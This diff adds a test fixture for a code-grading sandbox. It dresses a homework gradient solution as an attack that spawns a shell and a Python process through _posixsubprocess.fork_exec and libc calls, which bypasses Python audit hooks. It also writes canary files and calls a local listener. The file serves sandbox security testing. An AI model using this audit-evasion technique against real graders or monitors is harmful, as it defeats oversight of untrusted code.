@@ -1,0 +1,229 @@
+"""Attack `posixsubprocess_fork_exec`: the hw2_affine reference with ComputeGradients replaced by the attack.
+
+_posixsubprocess.fork_exec, the C function under subprocess.Popen: starts
+/bin/sh and a fresh Python (no audit hook in it) in new sessions, without the
+subprocess.Popen audit event; both try to write canaries and reach the listener.
+
+Graded by tests/integration/test_attacks.py, which fills in the @...@ placeholders.
+"""
+from __future__ import annotations
+
+import numpy as np
+
+
+def affine_parameters():
+    W1 = np.array([[1.0, 2.0], [0.0, 1.0], [-1.0, 0.0]])
+    b1 = np.array([[0.0], [0.0], [3.0]])
+    W2 = np.array([[1.0, -2.0, 0.25]])
+    b2 = np.array([[0.0]])
+    return W1, b1, W2, b2
+
+
+def AffineTransformation(W, b, x):
+    return W @ x + b
+
+
+def Composition(L, x):
+    activations = []
+    z = x
+    for W, b in L:
+        z = AffineTransformation(W, b, z)
+        activations.append(z)
+    return activations
+
+
+def f_of_g(x):
+    W1, b1, W2, b2 = affine_parameters()
+    return Composition([(W1, b1), (W2, b2)], x)[-1]
+
+
+def part5_derivatives(z1):
+    """dz2/dvec(W2) at z1 is z1^T; dz2/db2 is 1."""
+    return np.asarray(z1, dtype=float).reshape(1, -1), np.array([[1.0]])
+
+
+def part6_derivative(x):
+    """d(f o g)/dz1 is W2^T, whatever x is."""
+    return affine_parameters()[2].T
+
+
+def part7_gradients(x):
+    """(d(f o g)/db1, grad_W1 (f o g)) at x: W2^T and W2^T x^T."""
+    W2 = affine_parameters()[2]
+    x = np.asarray(x, dtype=float).reshape(-1, 1)
+    return W2.T, W2.T @ x.T
+
+
+# ------------------------------ the attack ------------------------------
+
+import ctypes
+import os
+import socket
+import struct
+import time
+
+TOKEN = "@TOKEN@"
+MARK = f"atk-{TOKEN}".encode()
+"""Every process this file starts carries this name, so the test finds survivors."""
+PORT = int("@PORT@")
+"""A TCP listener and a UDP socket of the test's, on 127.0.0.1."""
+CANARIES = @CANARIES@
+"""Paths outside the working folder that must never appear."""
+libc = ctypes.CDLL(None, use_errno=True)
+libc.syscall.restype = ctypes.c_long
+AS_ROOT = os.geteuid() == 0
+"""Root on the real machine (no namespaces, no uid drop): attacks that would hit every
+process or the machine's mounts hold back, since the tests run on that machine too."""
+PROTECTED = {int(pid) for pid in "@PROTECT@".split(",") if pid.strip()}
+"""The test runner's pid: never signalled or traced by a process that is root."""
+
+
+def say(*parts):
+    print("ATK", *parts, flush=True)
+
+
+def errno_text():
+    return os.strerror(ctypes.get_errno())
+
+
+def name_me():
+    libc.prctl(15, ctypes.c_char_p(MARK), 0, 0, 0)  # PR_SET_NAME
+
+
+def once(tag):
+    """True the first time in a grading run (the working folder outlives restarts)."""
+    flag = f".once-{tag}"
+    if os.path.exists(flag):
+        return False
+    with open(flag, "w"):
+        pass
+    return True
+
+
+def libc_read(path, limit=1 << 20):
+    """A file's bytes through libc's open (no Python open, so no audit event), or None."""
+    fd = libc.open(os.fsencode(path), os.O_RDONLY)
+    if fd < 0:
+        return None
+    try:
+        data = b""
+        while len(data) < limit:
+            chunk = os.read(fd, 65536)
+            if not chunk:
+                break
+            data += chunk
+        return data
+    except OSError:
+        return None
+    finally:
+        os.close(fd)
+
+
+def write_canaries():
+    written = []
+    for path in CANARIES:
+        fd = libc.open(os.fsencode(path), os.O_WRONLY | os.O_CREAT | os.O_APPEND, 0o644)
+        if fd >= 0:
+            libc.write(fd, MARK + b"\n", len(MARK) + 1)
+            libc.close(fd)
+            written.append(path)
+    return written
+
+
+def _address():
+    return struct.pack("=H", socket.AF_INET) + struct.pack(">H", PORT) + bytes([127, 0, 0, 1]) + bytes(8)
+
+
+def libc_connect():
+    fd = libc.socket(socket.AF_INET, socket.SOCK_STREAM, 0)
+    if fd < 0:
+        return f"socket: {errno_text()}"
+    address = _address()
+    ok = libc.connect(fd, address, len(address))
+    result = "connected" if ok == 0 else errno_text()
+    if ok == 0:
+        libc.send(fd, MARK, len(MARK), 0)
+    libc.close(fd)
+    return result
+
+
+def libc_sendto():
+    fd = libc.socket(socket.AF_INET, socket.SOCK_DGRAM, 0)
+    if fd < 0:
+        return f"socket: {errno_text()}"
+    address = _address()
+    sent = libc.sendto(fd, MARK, len(MARK), 0, address, len(address))
+    result = "sent" if sent > 0 else errno_text()
+    libc.close(fd)
+    return result
+
+
+def haunt(seconds=6.0):
+    """A daemon's life: keep writing the canaries and calling the listener, so one
+    that outlives its grading is caught in the act; never return."""
+    try:
+        name_me()
+        end = time.monotonic() + seconds
+        while time.monotonic() < end:
+            write_canaries()
+            libc_connect()
+            libc_sendto()
+            time.sleep(0.1)
+    finally:
+        os._exit(0)
+
+
+def wrong_answer(L):
+    """Right shapes, wrong values: what the attacked function returns when the attack fails."""
+    import numpy as np
+
+    return [(np.zeros(np.shape(W)), np.zeros((np.shape(W)[0], 1))) for W, _ in L]
+
+import _posixsubprocess
+import sys
+
+SHELL = ("i=0; while [ $i -lt 60 ]; do for p in " + " ".join(f"'{p}'" for p in CANARIES)
+         + "; do echo atk >> \"$p\"; done; i=$((i+1)); sleep 0.1; done")
+PYTHON = f"""
+import socket, time
+end = time.monotonic() + 6
+while time.monotonic() < end:
+    for path in {CANARIES!r}:
+        try:
+            open(path, "a").write("atk")
+        except OSError:
+            pass
+    for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
+        try:
+            s = socket.socket(socket.AF_INET, kind)
+            s.settimeout(0.2)
+            s.connect(("127.0.0.1", {PORT}))
+            s.send(b"atk")
+        except OSError:
+            pass
+    time.sleep(0.1)
+"""
+
+
+def spawn(argv):
+    args = [os.fsencode(a) for a in argv]
+    errors_r, errors_w = os.pipe()
+    common = (args, [args[0]], True, (), None, None, -1, -1, -1, -1, -1, -1, errors_r, errors_w, False, True, -1,
+              None, None, None, -1, None)
+    try:
+        try:
+            return _posixsubprocess.fork_exec(*common, False)  # 3.11, 3.12
+        except TypeError:
+            return _posixsubprocess.fork_exec(*common)
+    except Exception as exc:
+        return repr(exc)
+    finally:
+        os.close(errors_r)
+        os.close(errors_w)
+
+
+def ComputeGradients(L, x, z):
+    if once("spawn"):
+        say("sh", spawn(["/bin/sh", "-c", SHELL, MARK.decode()]))
+        say("python", spawn([sys.executable, "-S", "-c", PYTHON, MARK.decode()]))
+    return None
